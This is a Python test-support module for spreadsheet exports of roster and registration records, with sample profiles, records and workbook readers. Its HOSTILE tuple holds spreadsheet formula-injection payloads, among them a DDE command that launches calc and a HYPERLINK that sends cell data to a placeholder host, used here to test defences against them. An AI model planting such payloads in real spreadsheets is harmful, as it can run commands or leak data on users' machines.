"""Profiles, lines and workbook readers for the export tests; valid by default, overridable."""

from __future__ import annotations

import contextlib
import shutil
import subprocess
import tempfile
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from app.documents.export_table import Lines, Table, build_table
from app.documents.profiles import Profile, parse_profile
from app.domain.categories import MaritalStatus, Sex
from app.domain.rates import Payer, Segment

NIK_SITI = "3521014505800001"  # woman born 5 May 1980
NIK_BUDI = "3521011708750002"  # man born 17 August 1975
NIK_ZERO = "1101010101000001"  # Aceh, born 1 January 2000: a NIK whose digits all matter
# Text a secretary (or a copied spreadsheet) may put in a free-text field that a spreadsheet
# would otherwise run: a link, arithmetic, a DDE-style command, an error literal.
HOSTILE = (
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "+62 812 3456 7890",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "#N/A",
    "\t=1+1",
)

ROSTER_TOML = """
name = "uji-iuran"
version = "3"
kind = "roster"
title = "Uji iuran"
sheet = "Iuran"
start_row = 1
columns = [
  { header = "No", source = "line_no", type = "integer" },
  { header = "NIK", source = "nik", required = true },
  { header = "Nama", source = "name", required = true },
  { header = "Alamat", source = "address" },
  { header = "No HP", source = "phone" },
  { header = "Segmen", source = "segment" },
  { header = "Upah", source = "wage", type = "money", required = true },
  { header = "JKK", source = "amount.JKK", type = "money" },
  { header = "Jumlah", source = "total", type = "money" },
]
"""

REGISTRATION_TOML = """
name = "uji-daftar"
version = "2026.2"
kind = "registration"
title = "Uji pendaftaran"
sheet = "Daftar"
start_row = 3
columns = [
  { header = "NIK", source = "nik", required = true },
  { header = "Nama", source = "name", required = true },
  { header = "Tempat Lahir", source = "birth_place" },
  { header = "Tgl Lahir", source = "birth_date", date_pattern = "dd-mm-yyyy", required = true },
  { header = "Tgl Lahir ISO", source = "birth_date", type = "date", date_pattern = "yyyy-mm-dd" },
  { header = "TMT", source = "start", date_pattern = "dd/mm/yyyy" },
  { header = "L/P", source = "sex", map = { L = "L", P = "P" } },
  { header = "Kawin", source = "marital_status" },
  { header = "JHT", source = "programme.JHT", type = "integer", map = { yes = 1, no = 0 } },
  { header = "JP", source = "programme.JP" },
  { header = "No KK", source = "no_kk" },
  { header = "KPJ", source = "kpj" },
  { header = "Email", source = "email" },
]
"""


def roster_profile(text: str = ROSTER_TOML) -> Profile:
    return parse_profile(text, file="uji-iuran.toml")


def registration_profile(text: str = REGISTRATION_TOML) -> Profile:
    return parse_profile(text, file="uji-daftar.toml")


def roster_record(**overrides: Any) -> dict[str, object]:
    fields: dict[str, object] = {
        "nik": NIK_SITI, "name": "Siti Aminah", "address": "Jl. Raya No. 5",
        "phone": "081234567890", "segment": Segment.PU, "payer": Payer.APBDES,
        "wage": 2_022_200, "amount.JKK": 4_853, "total": 10_920,
    }  # fmt: skip
    fields.update(overrides)
    return fields


def registration_record(**overrides: Any) -> dict[str, object]:
    fields: dict[str, object] = {
        "nik": NIK_BUDI, "name": "Budi Santoso", "birth_place": "Ngawi",
        "birth_date": date(1975, 8, 17), "start": date(2026, 1, 5), "sex": Sex.L,
        "marital_status": MaritalStatus.KAWIN, "programme.JHT": True, "programme.JP": False,
        "no_kk": "0101012345670001", "kpj": "09876543210", "email": None,
    }  # fmt: skip
    fields.update(overrides)
    return fields


def table_of(profile: Profile, *records: dict[str, object]) -> Table:
    return build_table(profile, Lines.of(list(records)))


def cells(path: Path, sheet: str) -> list[list[Any]]:
    """Every cell as openpyxl's read-only mode sees it: (data_type, value)."""
    from openpyxl import load_workbook

    workbook = load_workbook(path, read_only=True)
    try:
        return [[(c.data_type, c.value) for c in row] for row in workbook[sheet].iter_rows()]
    finally:
        workbook.close()


def part_files(folder: Path) -> list[Path]:
    return sorted(folder.glob(".*.part"))


def custom_properties(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("docProps/custom.xml").decode("utf-8")


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice (soffice) is not installed; CI installs it"
)


def to_csv(workbook: Path, out_dir: Path, *, as_shown: bool = False) -> str:
    """Convert the first sheet to CSV with LibreOffice headless, in a private profile (two
    conversions at once would otherwise fight over one). `as_shown`: numbers and dates as the
    cell formats show them."""
    assert SOFFICE is not None
    target = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true" if as_shown else "csv"
    profile = Path(tempfile.mkdtemp(prefix="payung-lo-"))
    try:
        subprocess.run(
            [SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless",
             "--convert-to", target, "--outdir", str(out_dir), str(workbook)],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
    finally:
        with contextlib.suppress(OSError):
            shutil.rmtree(profile)
    return (out_dir / f"{workbook.stem}.csv").read_text(encoding="utf-8")
